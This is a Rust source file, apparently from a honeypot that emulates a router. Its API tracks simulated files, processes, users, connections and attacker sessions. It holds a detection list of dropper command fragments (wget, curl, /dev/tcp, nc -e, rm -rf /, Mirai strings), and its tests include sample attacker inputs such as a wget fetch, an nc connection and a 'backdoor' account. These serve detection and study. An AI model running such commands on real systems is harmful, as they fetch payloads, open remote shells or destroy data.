// CLASSIFICATION: COMMUNITY
// Filename: mutate.rs v0.1
// Author: Lukas Bower
// Date Modified: 2026-10-16

//! Mutation API.
//!
//! Attacker-facing operations. Each validates its input, leaves the state
//! untouched on failure, and marks the model for recalculation on success.
//! Timestamps use the model's current uptime, so callers refresh time first.

use std::net::Ipv4Addr;

use log::{debug, info, warn};

use super::model::{
    parent_of, resolve_path, AttackerSession, ConnState, Connection, Facility, FileEntry,
    FileFlags, FileType, LogEntry, LogLevel, Process, ProcessFlags, ProcessState, Protocol,
    StateModel, User,
};
use crate::error::{StateError, StateResult};

const MAX_PATH: usize = 255;

/// Command fragments typical of download-and-execute droppers.
const SUSPICIOUS: [&str; 14] = [
    "wget ",
    "curl ",
    "tftp ",
    "ftpget ",
    "chmod 777",
    "chmod +x",
    "/dev/tcp/",
    "nc -e",
    "base64 -d",
    "| sh",
    "|sh",
    "rm -rf /",
    "busybox ECCHI",
    "/bin/busybox MIRAI",
];

fn validate_path(path: &str) -> StateResult<()> {
    if !path.starts_with('/') {
        return Err(StateError::invalid(format!("path must be absolute: {path:?}")));
    }
    if path.len() > MAX_PATH || path.contains('\0') {
        return Err(StateError::invalid("path too long or contains NUL"));
    }
    if path != "/" && (path.ends_with('/') || path.contains("//")) {
        return Err(StateError::invalid(format!("malformed path {path:?}")));
    }
    if path.split('/').any(|c| c == "." || c == "..") {
        return Err(StateError::invalid(format!("path not normalized: {path:?}")));
    }
    Ok(())
}

fn validate_username(name: &str) -> StateResult<()> {
    let mut chars = name.chars();
    let head_ok = chars
        .next()
        .map(|c| c.is_ascii_lowercase() || c == '_')
        .unwrap_or(false);
    let tail_ok = chars.all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-');
    if !head_ok || !tail_ok || name.len() > 32 {
        return Err(StateError::invalid(format!("bad username {name:?}")));
    }
    Ok(())
}

impl StateModel {
    fn require_init(&self) -> StateResult<()> {
        if self.is_initialized {
            Ok(())
        } else {
            Err(StateError::NotInitialized)
        }
    }

    fn now_offset(&self) -> i64 {
        self.uptime_seconds as i64
    }

    /// Create a file or directory. A soft-deleted entry at the same path is
    /// revived in place.
    pub fn add_file(&mut self, path: &str, file_type: FileType, owner: &str, mode: u32) -> StateResult<()> {
        self.create_file(path, file_type, owner, mode, true)
    }

    /// Shared body of [`add_file`](Self::add_file). `counted` files show up in
    /// the live session's `files_created`.
    fn create_file(
        &mut self,
        path: &str,
        file_type: FileType,
        owner: &str,
        mode: u32,
        counted: bool,
    ) -> StateResult<()> {
        self.require_init()?;
        validate_path(path)?;
        if path == "/" {
            return Err(StateError::exists("file", path));
        }
        let gid = self
            .user(owner)
            .map(|u| u.gid)
            .ok_or_else(|| StateError::not_found("user", owner))?;
        let parent = parent_of(path);
        if !self.file(parent).map(|f| f.is_dir()).unwrap_or(false) {
            return Err(StateError::not_found("directory", parent));
        }
        if self.file(path).is_some() {
            return Err(StateError::exists("file", path));
        }
        let now = self.now_offset();
        let entry = FileEntry {
            path: path.into(),
            file_type,
            mode: mode & 0o7777,
            owner: owner.into(),
            group: self.group_name(gid),
            size: if file_type == FileType::Directory { 4096 } else { 0 },
            atime_offset: now,
            mtime_offset: now,
            ctime_offset: now,
            target: None,
            rdev: None,
            dynamic: None,
            flags: FileFlags::ATTACKER,
        };
        match self.file_index(path) {
            Some(idx) => self.files[idx] = entry,
            None => self.files.push(entry)?,
        }
        if let Some(dir) = self.file_index(parent) {
            self.files[dir].mtime_offset = now;
            self.files[dir].ctime_offset = now;
        }
        if let Some(session) = self.session.as_mut().filter(|_| counted) {
            session.files_created += 1;
        }
        self.needs_recalculation = true;
        debug!("file created: {} ({:?}, owner {})", path, file_type, owner);
        Ok(())
    }

    /// Create a symlink pointing at `target`.
    pub fn add_symlink(&mut self, path: &str, target: &str, owner: &str) -> StateResult<()> {
        if target.is_empty() {
            return Err(StateError::invalid("empty symlink target"));
        }
        self.add_file(path, FileType::Symlink, owner, 0o777)?;
        if let Some(idx) = self.file_index(path) {
            self.files[idx].target = Some(target.into());
            self.files[idx].size = target.len() as u64;
        }
        Ok(())
    }

    /// Soft-delete a file. The tombstone stays in the collection.
    pub fn remove_file(&mut self, path: &str) -> StateResult<()> {
        self.require_init()?;
        validate_path(path)?;
        let idx = self
            .files
            .iter()
            .position(|f| f.path == path && !f.is_deleted())
            .ok_or_else(|| StateError::not_found("file", path))?;
        if path == "/" || (self.files[idx].is_dir() && !self.children(path).is_empty()) {
            return Err(StateError::invalid(format!("directory not empty: {path}")));
        }
        let now = self.now_offset();
        let file = &mut self.files[idx];
        file.flags |= FileFlags::DELETED;
        file.ctime_offset = now;
        if let Some(dir) = self.file_index(parent_of(path)) {
            self.files[dir].mtime_offset = now;
        }
        if let Some(session) = self.session.as_mut() {
            session.files_deleted += 1;
        }
        self.needs_recalculation = true;
        debug!("file removed: {}", path);
        Ok(())
    }

    /// Change a regular file's size, as a write would.
    pub fn modify_file(&mut self, path: &str, new_size: u64) -> StateResult<()> {
        self.require_init()?;
        let idx = self
            .files
            .iter()
            .position(|f| f.path == path && !f.is_deleted())
            .ok_or_else(|| StateError::not_found("file", path))?;
        let now = self.now_offset();
        let file = &mut self.files[idx];
        if file.file_type != FileType::Regular || file.dynamic.is_some() {
            return Err(StateError::invalid(format!("not a writable regular file: {path}")));
        }
        file.size = new_size;
        file.mtime_offset = now;
        file.ctime_offset = now;
        self.needs_recalculation = true;
        Ok(())
    }

    /// Start a process; returns the assigned pid.
    pub fn add_process(
        &mut self,
        name: &str,
        cmdline: &str,
        uid: u32,
        ppid: u32,
        memory_kb: u32,
    ) -> StateResult<u32> {
        self.require_init()?;
        if name.is_empty() || name.len() > 64 {
            return Err(StateError::invalid("process name must be 1..=64 bytes"));
        }
        if self.user_by_uid(uid).is_none() {
            return Err(StateError::not_found("user", uid));
        }
        if self.process(ppid).is_none() {
            return Err(StateError::not_found("process", ppid));
        }
        if self.processes.is_full() {
            return Err(StateError::CapacityExceeded {
                collection: "processes",
                capacity: self.processes.capacity(),
            });
        }
        let in_use: u64 = self.processes.iter().map(|p| p.memory_kb as u64).sum();
        if in_use + memory_kb as u64 > self.profile.total_ram_kb as u64 {
            return Err(StateError::invalid(format!(
                "{memory_kb}kB does not fit in remaining memory"
            )));
        }
        let pid = self.allocate_pid();
        let tty = self.session.as_ref().map(|_| "pts/0".to_string());
        let process = Process {
            pid,
            ppid,
            uid,
            name: name.into(),
            cmdline: if cmdline.is_empty() { name.into() } else { cmdline.into() },
            state: ProcessState::Running,
            memory_kb,
            virtual_kb: memory_kb.saturating_mul(3),
            cpu_percent: 0,
            start_offset: self.now_offset(),
            tty,
            flags: ProcessFlags::VISIBLE | ProcessFlags::ATTACKER,
        };
        self.processes.push(process)?;
        if let Some(session) = self.session.as_mut() {
            session.processes_started += 1;
        }
        self.needs_recalculation = true;
        debug!("process started: {} pid={} uid={}", name, pid, uid);
        Ok(pid)
    }

    /// Kill a process. Children are reparented to init and any connections
    /// it owned are torn down.
    pub fn kill_process(&mut self, pid: u32) -> StateResult<()> {
        self.require_init()?;
        if pid == 1 {
            return Err(StateError::invalid("refusing to kill init"));
        }
        let idx = self
            .processes
            .iter()
            .position(|p| p.pid == pid)
            .ok_or_else(|| StateError::not_found("process", pid))?;
        if self.processes[idx].is_kernel_thread() {
            return Err(StateError::invalid(format!("pid {pid} is a kernel thread")));
        }
        let killed = self.processes.remove(idx);
        for child in self.processes.iter_mut().filter(|p| p.ppid == pid) {
            child.ppid = 1;
        }
        let before = self.connections.len();
        self.connections.retain(|c| c.owner_pid != Some(pid));
        let dropped = before - self.connections.len();
        self.needs_recalculation = true;
        info!(
            "process killed: {} pid={} ({} connections closed)",
            killed.name, pid, dropped
        );
        Ok(())
    }

    /// Add an account; returns the uid. `uid` of `None` picks the next free
    /// id from 1000.
    pub fn add_user(
        &mut self,
        username: &str,
        uid: Option<u32>,
        home: &str,
        shell: &str,
        password_hash: &str,
    ) -> StateResult<u32> {
        self.require_init()?;
        validate_username(username)?;
        validate_path(home)?;
        if self.user(username).is_some() {
            return Err(StateError::exists("user", username));
        }
        let uid = match uid {
            Some(uid) if self.user_by_uid(uid).is_some() => {
                return Err(StateError::exists("uid", uid));
            }
            Some(uid) => uid,
            None => (1000..65534)
                .find(|candidate| self.user_by_uid(*candidate).is_none())
                .ok_or_else(|| StateError::invalid("no free uid"))?,
        };
        self.users.push(User {
            username: username.into(),
            password_hash: if password_hash.is_empty() { "!".into() } else { password_hash.into() },
            uid,
            gid: uid,
            gecos: username.into(),
            home: home.into(),
            shell: shell.into(),
            can_login: shell != "/bin/false" && shell != "/sbin/nologin",
        })?;
        if self.file(home).is_none()
            && self.file(parent_of(home)).map(|f| f.is_dir()).unwrap_or(false)
        {
            if let Err(err) = self.create_file(home, FileType::Directory, username, 0o755, false) {
                warn!("home directory for {} not created: {}", username, err);
            }
        }
        let msg = format!(
            "new user: name={}, UID={}, GID={}, home={}, shell={}",
            username, uid, uid, home, shell
        );
        self.add_log(LogLevel::Info, Facility::Auth, "adduser", None, &msg);
        info!("user added: {} uid={}", username, uid);
        Ok(uid)
    }

    /// Register a connection owned by an existing process.
    pub fn add_connection(&mut self, conn: Connection) -> StateResult<()> {
        self.require_init()?;
        let owner = conn
            .owner_pid
            .ok_or_else(|| StateError::invalid("connection needs an owning pid"))?;
        if self.process(owner).is_none() {
            return Err(StateError::not_found("process", owner));
        }
        if conn.local_ip.parse::<Ipv4Addr>().is_err() || conn.remote_ip.parse::<Ipv4Addr>().is_err() {
            return Err(StateError::invalid("connection addresses must be IPv4"));
        }
        if conn.state == ConnState::Listen
            && self.connections.iter().any(|c| {
                c.state == ConnState::Listen
                    && c.protocol == conn.protocol
                    && c.local_port == conn.local_port
            })
        {
            return Err(StateError::exists(
                "listener",
                format!("{}/{}", conn.protocol.as_str(), conn.local_port),
            ));
        }
        self.connections.push(conn)?;
        self.needs_recalculation = true;
        Ok(())
    }

    /// Remove the connection matching protocol, local port and remote end.
    pub fn remove_connection(
        &mut self,
        protocol: Protocol,
        local_port: u16,
        remote_ip: &str,
        remote_port: u16,
    ) -> StateResult<Connection> {
        self.require_init()?;
        let idx = self
            .connections
            .iter()
            .position(|c| {
                c.protocol == protocol
                    && c.local_port == local_port
                    && c.remote_ip == remote_ip
                    && c.remote_port == remote_port
            })
            .ok_or_else(|| {
                StateError::not_found("connection", format!("{local_port}<->{remote_ip}:{remote_port}"))
            })?;
        self.needs_recalculation = true;
        Ok(self.connections.remove(idx))
    }

    /// Append a log line stamped with the current uptime.
    pub fn add_log(&mut self, level: LogLevel, facility: Facility, service: &str, pid: Option<u32>, message: &str) {
        self.logs.push(LogEntry {
            time_offset: self.now_offset(),
            level,
            facility,
            service: service.into(),
            pid,
            message: message.into(),
        });
        self.needs_recalculation = true;
    }

    /// Open the attacker session; any existing session is ended first.
    /// Returns the new session id.
    pub fn start_session(
        &mut self,
        source_ip: &str,
        source_port: u16,
        username: &str,
        local_port: u16,
    ) -> StateResult<String> {
        self.require_init()?;
        source_ip
            .parse::<Ipv4Addr>()
            .map_err(|_| StateError::invalid(format!("bad source address {source_ip:?}")))?;
        let home = self
            .user(username)
            .map(|u| u.home.clone())
            .ok_or_else(|| StateError::not_found("user", username))?;
        let daemon = self
            .connections
            .iter()
            .find(|c| c.state == ConnState::Listen && c.protocol == Protocol::Tcp && c.local_port == local_port)
            .and_then(|c| c.owner_pid)
            .ok_or_else(|| StateError::not_found("listener", local_port))?;
        let local_ip = self
            .primary_interface()
            .map(|i| i.ip.clone())
            .unwrap_or_else(|| "0.0.0.0".into());
        if self.session.is_some() {
            self.end_session()?;
        }
        self.add_connection(Connection {
            protocol: Protocol::Tcp,
            local_ip,
            local_port,
            remote_ip: source_ip.into(),
            remote_port: source_port,
            state: ConnState::Established,
            owner_pid: Some(daemon),
        })?;

        self.session_counter += 1;
        let session_id = format!("{:04x}{}", self.session_counter, self.rng.hex_token(2));
        let service = self
            .process(daemon)
            .map(|p| p.name.clone())
            .unwrap_or_else(|| "sshd".into());
        let msg = if local_port == 23 {
            format!("root login on 'pts/0' from {source_ip}")
        } else {
            format!("Password auth succeeded for '{username}' from {source_ip}:{source_port}")
        };
        self.add_log(LogLevel::Notice, Facility::Auth, &service, Some(daemon), &msg);
        self.session = Some(AttackerSession {
            session_id: session_id.clone(),
            connect_time: self.now(),
            source_ip: source_ip.into(),
            source_port,
            local_port,
            username: username.into(),
            cwd: home,
            ..AttackerSession::default()
        });
        info!("session {} opened: {}@{}:{}", session_id, username, source_ip, source_port);
        Ok(session_id)
    }

    /// Close the attacker session and its connection; returns the record.
    pub fn end_session(&mut self) -> StateResult<AttackerSession> {
        self.require_init()?;
        let session = self
            .session
            .take()
            .ok_or_else(|| StateError::not_found("session", "active"))?;
        let owner = self
            .connections
            .iter()
            .position(|c| {
                c.state == ConnState::Established
                    && c.local_port == session.local_port
                    && c.remote_ip == session.source_ip
                    && c.remote_port == session.source_port
            })
            .map(|idx| self.connections.remove(idx).owner_pid);
        let service = owner
            .flatten()
            .and_then(|pid| self.process(pid))
            .map(|p| (p.name.clone(), p.pid));
        if let Some((name, pid)) = service {
            let msg = format!(
                "Exit ({}) from <{}:{}>: Disconnect received",
                session.username, session.source_ip, session.source_port
            );
            self.add_log(LogLevel::Info, Facility::Auth, &name, Some(pid), &msg);
        }
        self.needs_recalculation = true;
        info!(
            "session {} closed after {} commands",
            session.session_id, session.commands_executed
        );
        Ok(session)
    }

    /// Record a command typed in the session. Returns whether it matched a
    /// dropper pattern; the session's suspicious flag is sticky.
    pub fn record_command(&mut self, command: &str) -> StateResult<bool> {
        self.require_init()?;
        let now = self.now();
        let session = self
            .session
            .as_mut()
            .ok_or_else(|| StateError::not_found("session", "active"))?;
        let matched = SUSPICIOUS.iter().any(|pat| command.contains(pat));
        session.commands_executed += 1;
        session.last_command = Some(command.into());
        session.last_command_time = now;
        if matched && !session.suspicious {
            session.suspicious = true;
            warn!("session {} flagged suspicious: {:?}", session.session_id, command);
        }
        Ok(matched)
    }

    /// Change the session's working directory; returns the resolved path.
    pub fn set_current_dir(&mut self, path: &str) -> StateResult<String> {
        self.require_init()?;
        let cwd = self
            .session
            .as_ref()
            .map(|s| s.cwd.clone())
            .ok_or_else(|| StateError::not_found("session", "active"))?;
        let target = resolve_path(&cwd, path);
        if !self.file(&target).map(|f| f.is_dir()).unwrap_or(false) {
            return Err(StateError::not_found("directory", target));
        }
        if let Some(session) = self.session.as_mut() {
            session.cwd = target.clone();
        }
        Ok(target)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::builtin_profile;

    const NOW: i64 = 1_760_000_000;

    fn state() -> StateModel {
        StateModel::init_with(builtin_profile("TP-Link_Archer_C7").unwrap(), 3, NOW).unwrap()
    }

    #[test]
    fn add_file_needs_parent_and_owner() {
        let mut s = state();
        assert!(matches!(
            s.add_file("/nope/x", FileType::Regular, "root", 0o644),
            Err(StateError::NotFound { kind: "directory", .. })
        ));
        assert!(matches!(
            s.add_file("/tmp/x", FileType::Regular, "mallory", 0o644),
            Err(StateError::NotFound { kind: "user", .. })
        ));
        s.add_file("/tmp/x", FileType::Regular, "root", 0o644).unwrap();
        assert!(matches!(
            s.add_file("/tmp/x", FileType::Regular, "root", 0o644),
            Err(StateError::AlreadyExists { .. })
        ));
        assert!(s.needs_recalculation);
    }

    #[test]
    fn removed_path_can_be_recreated() {
        let mut s = state();
        s.add_file("/tmp/a", FileType::Regular, "root", 0o644).unwrap();
        let count = s.files.len();
        s.remove_file("/tmp/a").unwrap();
        assert!(s.file("/tmp/a").is_none());
        s.add_file("/tmp/a", FileType::Regular, "root", 0o600).unwrap();
        assert_eq!(s.files.len(), count);
    }

    #[test]
    fn non_empty_dir_not_removed() {
        let mut s = state();
        assert!(matches!(s.remove_file("/etc"), Err(StateError::InvalidInput(_))));
        assert!(matches!(s.remove_file("/tmp/none"), Err(StateError::NotFound { .. })));
    }

    #[test]
    fn files_fill_to_capacity() {
        let mut s = state();
        let mut last = Ok(());
        for i in 0..600 {
            last = s.add_file(&format!("/tmp/f{i}"), FileType::Regular, "root", 0o644);
            if last.is_err() {
                break;
            }
        }
        assert!(matches!(last, Err(StateError::CapacityExceeded { collection: "files", .. })));
        assert_eq!(s.files.len(), s.files.capacity());
    }

    #[test]
    fn kill_reparents_and_closes() {
        let mut s = state();
        let parent = s.add_process("sh", "/bin/sh", 0, 1, 200).unwrap();
        let child = s.add_process("sleep", "sleep 100", 0, parent, 50).unwrap();
        s.kill_process(parent).unwrap();
        assert_eq!(s.process(child).unwrap().ppid, 1);
        assert!(s.kill_process(parent).is_err());
        assert!(matches!(s.kill_process(1), Err(StateError::InvalidInput(_))));
    }

    #[test]
    fn add_process_validates() {
        let mut s = state();
        assert!(s.add_process("x", "", 4242, 1, 10).is_err());
        assert!(s.add_process("x", "", 0, 99_999, 10).is_err());
        assert!(s.add_process("x", "", 0, 1, u32::MAX / 2).is_err());
    }

    #[test]
    fn add_user_assigns_uid_and_home() {
        let mut s = state();
        let uid = s.add_user("mallory", None, "/home/mallory", "/bin/sh", "").unwrap();
        assert!(uid >= 1000);
        assert!(s.file("/home/mallory").unwrap().is_dir());
        assert!(matches!(
            s.add_user("mallory", None, "/home/mallory", "/bin/sh", ""),
            Err(StateError::AlreadyExists { .. })
        ));
        assert!(s.add_user("Bad Name", None, "/", "/bin/sh", "").is_err());
    }

    #[test]
    fn new_account_home_not_counted_as_created_file() {
        let mut s = state();
        s.start_session("185.220.101.9", 40100, "root", 22).unwrap();
        s.add_user("backdoor", None, "/home/backdoor", "/bin/sh", "").unwrap();
        assert!(s.file("/home/backdoor").is_some());
        assert_eq!(s.session.as_ref().unwrap().files_created, 0);
        s.add_file("/tmp/drop", FileType::Regular, "root", 0o644).unwrap();
        assert_eq!(s.session.as_ref().unwrap().files_created, 1);
    }

    #[test]
    fn session_lifecycle() {
        let mut s = state();
        let conns = s.connections.len();
        s.start_session("185.220.101.4", 51234, "root", 22).unwrap();
        assert_eq!(s.connections.len(), conns + 1);
        assert!(!s.record_command("ls -la").unwrap());
        assert!(s.record_command("cd /tmp; wget http://x/y.sh").unwrap());
        assert!(s.session.as_ref().unwrap().suspicious);
        assert_eq!(s.set_current_dir("../tmp").unwrap(), "/tmp");
        let closed = s.end_session().unwrap();
        assert_eq!(closed.commands_executed, 2);
        assert_eq!(s.connections.len(), conns);
        assert!(s.end_session().is_err());
    }

    #[test]
    fn session_requires_listener() {
        let mut s = state();
        assert!(s.start_session("1.2.3.4", 1000, "root", 2222).is_err());
        assert!(s.start_session("not-an-ip", 1000, "root", 22).is_err());
    }

    #[test]
    fn symlink_records_target() {
        let mut s = state();
        assert!(s.add_symlink("/tmp/sh", "", "root").is_err());
        s.add_symlink("/tmp/sh", "/bin/busybox", "root").unwrap();
        let link = s.file("/tmp/sh").unwrap();
        assert_eq!(link.file_type, FileType::Symlink);
        assert_eq!(link.target.as_deref(), Some("/bin/busybox"));
        assert_eq!(link.size, "/bin/busybox".len() as u64);
    }

    #[test]
    fn connection_add_and_remove() {
        let mut s = state();
        let pid = s.add_process("nc", "nc 198.51.100.1 4444", 0, 1, 200).unwrap();
        let conn = Connection {
            protocol: Protocol::Tcp,
            local_ip: "192.168.1.1".into(),
            local_port: 40000,
            remote_ip: "198.51.100.1".into(),
            remote_port: 4444,
            state: ConnState::Established,
            owner_pid: Some(pid),
        };
        assert!(s
            .add_connection(Connection { owner_pid: Some(999_999), ..conn.clone() })
            .is_err());
        s.add_connection(conn.clone()).unwrap();
        let removed = s.remove_connection(Protocol::Tcp, 40000, "198.51.100.1", 4444).unwrap();
        assert_eq!(removed, conn);
        assert!(matches!(
            s.remove_connection(Protocol::Tcp, 40000, "198.51.100.1", 4444),
            Err(StateError::NotFound { kind: "connection", .. })
        ));
    }

    #[test]
    fn duplicate_listener_rejected() {
        let mut s = state();
        let owner = s.process_by_name("dropbear").unwrap().pid;
        let listener = Connection {
            protocol: Protocol::Tcp,
            local_ip: "0.0.0.0".into(),
            local_port: 22,
            remote_ip: "0.0.0.0".into(),
            remote_port: 0,
            state: ConnState::Listen,
            owner_pid: Some(owner),
        };
        assert!(matches!(s.add_connection(listener), Err(StateError::AlreadyExists { .. })));
    }

    #[test]
    fn log_stamped_with_uptime() {
        let mut s = state();
        s.add_log(LogLevel::Warning, Facility::Daemon, "httpd", Some(77), "GET /cgi-bin/luci");
        let last = s.logs.iter().last().unwrap();
        assert_eq!(last.time_offset, s.uptime_seconds as i64);
        assert_eq!(last.message, "GET /cgi-bin/luci");
    }
}
